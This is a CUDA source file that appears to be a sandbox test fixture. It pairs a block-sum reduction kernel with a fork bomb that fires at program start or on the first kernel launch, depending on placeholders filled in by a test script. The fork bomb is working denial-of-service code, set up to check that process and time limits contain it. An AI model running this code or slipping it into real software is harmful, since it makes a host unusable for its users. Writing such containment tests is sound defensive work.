// forkbomb.cu — hostile host code: a fork bomb.  Contained: the process
// limit refuses the forks (the first process says after how many), the time
// limit then kills the whole sandbox, and the machine stays usable.
// tests/own/sandbox_test.sh fills in when it strikes (@AT_START@, @IN_LAUNCH@).
#include <cerrno>
#include <cstdio>
#include <cstring>
#include <unistd.h>

static void attack()
{
    long made = 0;
    for (;;) {
        pid_t p = fork();
        if (p == 0) for (;;) fork();  /* every child forks too */
        if (p < 0) {
            fprintf(stderr, "hostile forkbomb: fork refused after %ld processes: %s\n", made, strerror(errno));
            for (;;) fork();
        }
        made++;
    }
}

__attribute__((constructor)) static void at_start()
{
    if (@AT_START@) attack();
}

__global__ void sum_blocks(const float *in, float *out, unsigned int n)
{
    __shared__ float s[1024];
    unsigned int t = threadIdx.x, i = blockIdx.x * blockDim.x * 2 + t;
    s[t] = (i < n ? in[i] : 0.0f) + (i + blockDim.x < n ? in[i + blockDim.x] : 0.0f);
    __syncthreads();
    for (unsigned int h = blockDim.x / 2; h > 0; h /= 2) {
        if (t < h) s[t] += s[t + h];
        __syncthreads();
    }
    if (t == 0) out[blockIdx.x] = s[0];
}

unsigned int launch(const float *in, float *out, unsigned int n, unsigned int block, cudaStream_t stream)
{
    static bool struck = false;
    if (@IN_LAUNCH@ && !struck) struck = true, attack();
    unsigned int grid = (n + 2 * block - 1) / (2 * block);
    sum_blocks<<<grid, block, 0, stream>>>(in, out, n);
    return grid;
}
